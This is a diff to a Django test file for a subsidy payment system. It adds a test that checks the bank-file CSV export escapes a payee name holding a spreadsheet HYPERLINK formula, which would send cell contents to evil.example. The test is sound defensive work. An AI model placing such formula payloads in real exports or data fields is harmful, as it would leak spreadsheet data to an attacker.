@@ -1,4 +1,6 @@
+import csv
 import datetime
+import io
 import uuid
 from decimal import Decimal
 
@@ -7,6 +9,7 @@ from django.db import IntegrityError, transaction
 from django.urls import reverse
 from django.utils import timezone
 
+from portal.models import Person
 from registration import services as registration
 from registration.models import EmploymentRegistration
 from subsidies import services
@@ -61,6 +64,26 @@ def test_a_batch_totals_to_the_cent_and_pays_once(graduate_in_flexible_work, sta
     payments.settle_payment(payment, paid=True, by=staff["payer"])
     application.refresh_from_db()
     assert application.status == "paid"
+
+
+def test_the_bank_file_shows_a_hostile_payee_name_as_text_and_the_amount_as_a_number(
+    graduate_in_flexible_work, staff
+):
+    seeker = graduate_in_flexible_work
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    Person.objects.filter(pk=seeker.person.pk).update(name=hostile)
+    application = factories.approve_subsidy(
+        insurance_application(seeker, datetime.date(2026, 1, 1)), staff
+    )
+    batch, _held = payments.create_batch([application], by=staff["payer"])
+    text = payments.batch_csv(batch)
+    assert text.startswith("\ufeff序号,收款人,证件号码,补贴项目,金额,申请编号\r\n")
+    [header, row] = csv.reader(io.StringIO(text.lstrip("\ufeff")))
+    assert row[0] == "1"
+    assert row[1] == "'" + hostile
+    assert row[2] == seeker.person.id_number
+    assert row[4] == "3600.58" and Decimal(row[4]) == batch.total
+    assert row[5] == str(application.code)
 
 
 def test_a_failed_payment_returns_to_the_queue(graduate_in_flexible_work, staff):
